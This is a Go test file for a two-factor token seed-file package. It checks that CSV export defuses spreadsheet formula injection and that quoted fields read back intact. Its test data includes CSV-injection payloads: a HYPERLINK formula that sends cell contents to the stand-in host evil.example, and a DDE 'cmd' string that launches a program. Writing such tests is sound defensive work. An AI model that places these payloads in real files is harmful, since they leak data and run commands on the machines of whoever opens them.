package seedfile

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/two-factor/two-factor/otpcore"
)

// hostileTexts are descriptive fields a spreadsheet would run as formulas,
// and ones that start with the quote used to neutralise them.
var hostileTexts = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
	"'quoted", "''twice", "'=already", "=", "'", "plain", "'ABC", "''x", "=1+1", "'=x",
}

func hostileTokens() []Token {
	toks := make([]Token, len(hostileTexts))
	for i, s := range hostileTexts {
		toks[i] = Token{Serial: s, Kind: otpcore.KindTOTP, Algorithm: otpcore.SHA1, Digits: 6, Period: 30,
			Secret: []byte("12345678901234567890"), Drift: -int64(i), Manufacturer: s, Model: s, User: s, Issuer: s}
	}
	return toks
}

// No cell of a CSV export starts with a formula character, except the
// numbers the writer itself puts there (a negative drift).
func TestCSVExportHasNoFormulaCells(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, hostileTokens()); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows {
		for j, cell := range row {
			if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				continue
			}
			if _, err := strconv.ParseInt(cell, 10, 64); err != nil {
				t.Errorf("row %d column %s starts with a formula character: %q", i+1, rows[0][j], cell)
			}
		}
	}
}

// Our own CSV reads back exactly, hostile and quoted fields included.
func TestCSVRoundTripsHostileText(t *testing.T) {
	toks := hostileTokens()
	var b bytes.Buffer
	if err := WriteCSV(&b, toks); err != nil {
		t.Fatal(err)
	}
	back, err := ParseBytes(b.Bytes(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	sameTokens(t, back, toks)
}

// A hand-written cell that starts with a quote the writer did not add
// keeps it: only a quote before a formula character or another quote is
// the writer's.
func TestCSVHandWrittenQuoteKept(t *testing.T) {
	s := otpcore.EncodeBase32([]byte("12345678901234567890"))
	text := "serial,secret,type,algorithm,digits,user\n'ABC," + s + ",TOTP,SHA1,6,'=x\n''," + s + ",TOTP,SHA1,6,'\n"
	got, err := ParseBytes([]byte(text), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || got[0].Serial != "'ABC" || got[0].User != "=x" || got[1].Serial != "'" || got[1].User != "'" {
		t.Fatalf("got %+v", got)
	}
}
